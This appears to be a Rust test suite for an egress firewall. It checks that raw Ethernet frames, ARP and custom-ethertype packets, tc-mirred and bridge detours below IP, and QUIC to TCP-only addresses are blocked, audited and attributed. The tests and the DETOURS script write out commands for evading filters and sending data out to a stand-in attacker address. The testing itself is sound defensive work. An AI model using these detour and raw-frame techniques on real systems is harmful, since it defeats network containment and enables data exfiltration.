//! ATTACKS.md, T5 and T10: frames that bypass the IP stack, and QUIC to an address that is open for something else.

use anyhow::{Context, Result, ensure};
use portcullis_common::event::{RecordedDetection, RuleCounter, Verdict};
use portcullis_tests::evidence::{
    Actor, Call, NO_RULE, check_sequence, final_counters, find_detections,
};
use portcullis_tests::gate::{Gate, POLICY, policy, root_step, step};
use portcullis_tests::world::MonitorOptions;
use portcullis_tests::{Job, JobOutcome, World, wait_for};
use std::net::UdpSocket;
use std::time::Duration;

/// By a packet socket, past the queue, with a forged Ethernet address, with a header of the kernel's making, through a
/// ring of shared memory, several at once from a socket that is bound to nothing; each over IPv4 and IPv6.
const FRAMES: &[&str] = &[
    "packet-frame",
    "packet-bypass",
    "packet-forged-mac",
    "packet-datagram",
    "packet-ring",
    "packet-many",
];

const ADDRESSES: [&str; 2] = ["203.0.113.66", "2001:db8::66"];

/// Frames that hold no IP packet, and what an event says of them: they reach the local network.
const LINK_FRAMES: [(&str, &str, &str); 2] =
    [("packet-arp", "203.0.113.66", "arp"), ("packet-ethertype", "0.0.0.0", "ethertype-0x88b5")];

/// What stands as the rule of each.
const FRAME_RULE: &str = "frames that bypass IP do not leave, wherever they go";

/// All frames, and then an allowed call, for which a new neighbour is asked for, as the kernel does it.
fn frames(gate: &Gate, twin: &str) -> Job {
    let mut script = String::new();
    for technique in FRAMES {
        for address in ADDRESSES {
            script += &transport(technique, address, 20_000);
            script.push('\n');
        }
    }
    for (technique, ..) in LINK_FRAMES {
        script += &transport(technique, ADDRESSES[0], 20_000);
        script.push('\n');
    }
    script.push_str("ip neigh flush dev eth0\n");
    let mut job = gate.job();
    job.steps = vec![root_step("frames", &script), step("twin", twin)];
    job
}

/// Runs the frames one after the other; `settled` looks at each while its sender waits.
fn run(
    gate: &Gate,
    twin: &str,
    settled: impl Fn(&str, &str) -> Result<()>,
) -> Result<portcullis_tests::JobResult> {
    let running = gate.begin(&frames(gate, twin))?;
    let of_ip = FRAMES.iter().flat_map(|technique| ADDRESSES.map(|address| (*technique, address)));
    let others = LINK_FRAMES.iter().map(|(technique, ..)| (*technique, ADDRESSES[0]));
    for (technique, address) in of_ip.chain(others) {
        running.wait_for_line(&format!("{technique} {address}: "))?;
        settled(technique, address)
            .with_context(|| format!("{}\n{}", gate.log(), running.lines().join("\n")))?;
        gate.release(&format!("{technique}-{address}"))?;
    }
    let result = running.wait()?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    Ok(result)
}

fn transport(technique: &str, address: &str, port: u16) -> String {
    format!("python3 -S $ATTACKS/transport.py {technique} {address} {port}")
}

const TWIN: &str = "curl -sS -4 https://ok.test/ && curl -sS -6 https://ok.test/";

/// The call that must be recorded of a frame.
fn call(technique: &str, address: &str, verdict: Verdict) -> Result<Call> {
    let of_link = LINK_FRAMES.iter().find(|(name, ..)| *name == technique);
    let (address, protocol, port) = match of_link {
        Some((_, address, protocol)) => (*address, *protocol, None),
        None => (address, "udp", Some(20_000)),
    };
    let actor = Actor::new("python3").argument(technique).step("frames").uid(0);
    Ok(Call::to(address.parse()?, protocol, port)
        .verdict(verdict)
        .rule(FRAME_RULE)
        .policy(POLICY)
        .name(None)
        .by(actor))
}

/// Frames by the kernel's count, and how many of them have an event.
fn counted(gate: &Gate, rule: &str) -> Result<u64> {
    let counters = final_counters(&gate.final_events()?);
    let found = counters.iter().find(|counter| counter.rule == rule);
    let RuleCounter { packets, recorded, .. } = found.context("no counter of frames")?;
    ensure!(packets == recorded, "{recorded} of {packets} have an event");
    Ok(*packets)
}

/// At least so many frames were sent; some techniques send two.
const SENT: u64 = (FRAMES.len() * ADDRESSES.len() + LINK_FRAMES.len()) as u64;

#[test]
fn without_a_gate_every_frame_reaches_the_attacker() -> Result<()> {
    let gate = Gate::without(World::builder())?;
    let arrived = || {
        let packets = gate.world().attacker().described_packets();
        packets.iter().filter(|packet| packet.port == Some(20_000)).count()
    };
    run(&gate, "true", |technique, address| {
        let is_first = || arrived() > 0;
        let place = FRAMES.iter().position(|known| *known == technique).unwrap_or(0);
        let of_address = usize::from(address == ADDRESSES[1]);
        // Each adds at least one to what was there.
        let expected = if LINK_FRAMES.iter().any(|(name, ..)| *name == technique) {
            0
        } else {
            place * ADDRESSES.len() + of_address + 1
        };
        wait_for("the frame to arrive", || (is_first() && arrived() >= expected).then_some(()))
    })?;
    gate.assert_leaked()
}

#[test]
fn frames_stop_at_the_device_and_name_who_sent_them() -> Result<()> {
    let gate = Gate::up(&policy("block", &["ok.test:443"]))?;
    run(&gate, TWIN, |technique, address| {
        gate.wait_for_call(&call(technique, address, Verdict::Blocked)?).map(drop)
    })?;
    gate.assert_contained()?;
    let frames = counted(&gate, "frames")?;
    ensure!(frames >= SENT, "{frames} frames were counted");
    let events = gate.final_events()?;
    for technique in FRAMES {
        let found = find_detections(&events, RecordedDetection::RawFrames, "stopped at the uplink");
        let named = found.iter().any(|detection| {
            let process = detection.process.as_ref();
            process.is_some_and(|process| process.argv.iter().any(|word| word == technique))
        });
        ensure!(named, "no detection names {technique}: {found:#?}");
    }
    check_sequence(&events)
}

#[test]
fn in_audit_mode_frames_pass_and_name_who_sent_them() -> Result<()> {
    let gate = Gate::up(&policy("audit", &["ok.test:443"]))?;
    let result = run(&gate, TWIN, |technique, address| {
        gate.wait_for_call(&call(technique, address, Verdict::WouldBlock)?).map(drop)
    })?;
    for technique in FRAMES {
        let line = format!("{technique} {}: sent", ADDRESSES[0]);
        ensure!(result.log().contains(&line), "no `{line}` in\n{}", result.log());
    }
    gate.assert_leaked()?;
    let frames = counted(&gate, "would_block_frames")?;
    ensure!(frames >= SENT, "{frames} frames were counted");
    Ok(())
}

/// In scope `job` too: the backstop belongs to the uplink, not to a process.
#[test]
fn frames_are_named_beside_another_runner() -> Result<()> {
    let world = World::builder().runners(2);
    let gate = Gate::build(world, &policy("block", &["ok.test:443"]), MonitorOptions::default())?;
    for runner in gate.world().runners() {
        runner.start()?;
    }
    run(&gate, TWIN, |technique, address| {
        gate.wait_for_call(&call(technique, address, Verdict::Blocked)?).map(drop)
    })?;
    gate.assert_contained()
}

/// A route by a device of the job's own making, which leads to the uplink below IP: by a redirection (tc-mirred(8)) and
/// by a bridge that the uplink is put into. Packets carry a route and the uplink's Ethernet address then.
const DETOURS: &str = "
gateway=$(awk '$1 == \"192.0.2.1\" { print $4 }' /proc/net/arp)
own=$(ip -o link show eth0 | sed 's/.*ether \\([^ ]*\\) .*/\\1/')
ip link add v0 type veth peer name v1
ip link set v0 address $own up; ip link set v1 up
tc qdisc add dev v0 clsact
tc filter add dev v0 egress protocol ip u32 match ip dst 203.0.113.66/32 action mirred egress redirect dev eth0
ip route add 203.0.113.66 dev v0 src 192.0.2.10
ip neigh replace 203.0.113.66 lladdr $gateway dev v0 nud permanent
python3 -S $ATTACKS/transport.py udp-sendto 203.0.113.66 20001
ip link add br0 type bridge
ip link set br0 address $own up
ip link set eth0 master br0
ip route replace 203.0.113.66 dev br0 src 192.0.2.10
ip neigh replace 203.0.113.66 lladdr $gateway dev br0 nud permanent
python3 -S $ATTACKS/transport.py udp-connected 203.0.113.66 20002
";

/// Runs the detours; root of a job can make devices.
fn detours(gate: &Gate) -> Result<()> {
    for technique in ["udp-sendto", "udp-connected"] {
        gate.release(&format!("{technique}-203.0.113.66"))?;
    }
    let mut job = gate.job();
    job.steps =
        vec![step("neighbour", "curl -sS -4 https://ok.test/"), root_step("detours", DETOURS)];
    let result = gate.begin(&job)?.wait()?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    Ok(())
}

#[test]
fn without_a_gate_detours_below_ip_reach_the_attacker() -> Result<()> {
    let gate = Gate::without(World::builder())?;
    detours(&gate)?;
    wait_for("both to arrive", || {
        let packets = gate.world().attacker().described_packets();
        let has = |port| packets.iter().any(|packet| packet.port == Some(port));
        (has(20_001) && has(20_002)).then_some(())
    })?;
    gate.assert_leaked()
}

#[test]
fn detours_below_ip_are_stopped() -> Result<()> {
    let gate = Gate::up(&policy("block", &["ok.test:443"]))?;
    detours(&gate)?;
    gate.assert_contained()
}

#[test]
fn quic_to_an_address_that_is_open_for_tcp_needs_a_rule_of_its_own() -> Result<()> {
    // `v4.ok.test` may be called by QUIC, too; `ok.test` may not.
    let allowed = ["ok.test:443", "v4.ok.test:443", "udp://v4.ok.test:443", "v6.ok.test:443"];
    let gate = Gate::up(&policy("block", &allowed))?;
    let world = gate.world();
    for address in ["2001:db8:1::10", "2001:db8:1::13"] {
        world.add_address(address.parse()?)?;
    }
    let listen = |address: &str| -> Result<UdpSocket> {
        let socket = world.internet().run(|| UdpSocket::bind((address, 443)))??;
        socket.set_read_timeout(Some(Duration::from_millis(50)))?;
        Ok(socket)
    };
    let closed = ["198.51.100.10", "2001:db8:1::10", "2001:db8:1::13"];
    let servers = closed.map(listen);
    let open = listen("198.51.100.12")?;
    // Grants are there: the names are resolved and called over TCP first.
    let mut script =
        "for name in ok.test v4.ok.test v6.ok.test; do curl -sS https://$name/; done\n".to_owned();
    for address in closed {
        script += &transport("udp-connected", address, 443);
        script.push_str(" &\n");
    }
    script.push_str("python3 -S $ATTACKS/transport.py udp-sendto 198.51.100.12 443 &\nwait\n");
    let mut job = gate.job();
    job.steps = vec![step("quic", &script)];
    let running = gate.begin(&job)?;
    for address in closed {
        let actor = Actor::new("python3").argument("udp-connected").argument(address).step("quic");
        let call = Call::to(address.parse()?, "udp", Some(443))
            .verdict(Verdict::Blocked)
            .rule(NO_RULE)
            .policy(POLICY)
            .by(actor);
        gate.wait_for_call(&call)?;
        gate.release(&format!("udp-connected-{address}"))?;
    }
    let twin = Call::to("198.51.100.12".parse()?, "udp", Some(443))
        .verdict(Verdict::Allowed)
        .rule("udp://v4.ok.test:443")
        .name(Some("v4.ok.test"))
        .by(Actor::new("python3").argument("udp-sendto").step("quic"));
    gate.wait_for_call(&twin)?;
    gate.release("udp-sendto-198.51.100.12")?;
    let result = running.wait()?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    let mut buffer = [0; 2048];
    let length = open.recv(&mut buffer)?;
    ensure!(
        gate.canary().is_in(&buffer[..length]),
        "the allowed datagram arrived without its content"
    );
    for server in servers {
        ensure!(server?.recv(&mut buffer).is_err(), "a datagram arrived that nothing allows");
    }
    Ok(())
}
